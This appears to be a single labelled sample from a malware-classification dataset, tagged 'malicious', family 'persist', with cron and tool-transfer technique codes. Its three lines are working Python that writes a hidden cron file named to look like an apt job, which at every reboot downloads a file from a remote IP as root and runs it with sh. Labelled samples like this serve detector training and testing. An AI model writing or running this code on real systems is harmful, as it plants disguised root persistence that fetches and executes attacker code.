# label: malicious family=persist techniques=T1053.003,T1105 lines=3
from pathlib import Path
Path("/etc/cron.d/.apt-daily").write_text("@reboot root wget -q -O /tmp/a http://203.0.113.84/a && sh /tmp/a\n")
